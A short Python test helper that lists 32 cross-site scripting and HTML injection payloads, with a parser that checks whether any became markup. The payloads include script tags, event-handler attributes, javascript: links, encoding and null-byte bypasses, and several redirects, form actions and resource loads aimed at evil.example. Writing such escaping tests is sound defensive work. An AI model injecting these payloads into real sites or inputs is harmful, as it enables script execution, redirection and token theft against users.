"""Texts that try to become markup, and a reader that sees whether they did."""

from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</title><script>alert(1)</script>",
    "</p></main><iframe src=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=token>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0; url=//evil.example">',
    '0; url=//evil.example"><meta http-equiv="refresh" content="0; url=//evil.example',
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<math><mtext></mtext><mglyph><svg><mtext></mtext></svg></mglyph></math>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
    "&#60;script&#62;<i>",
    "{{ 7 * 7 }}{% raw %}<u>",
    "<a href=javascript:alert(1)>here</a>",
    "<details open ontoggle=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "＜script＞<marquee onstart=alert(1)>",
]


class Elements(HTMLParser):
    """Every element with the names of its attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))
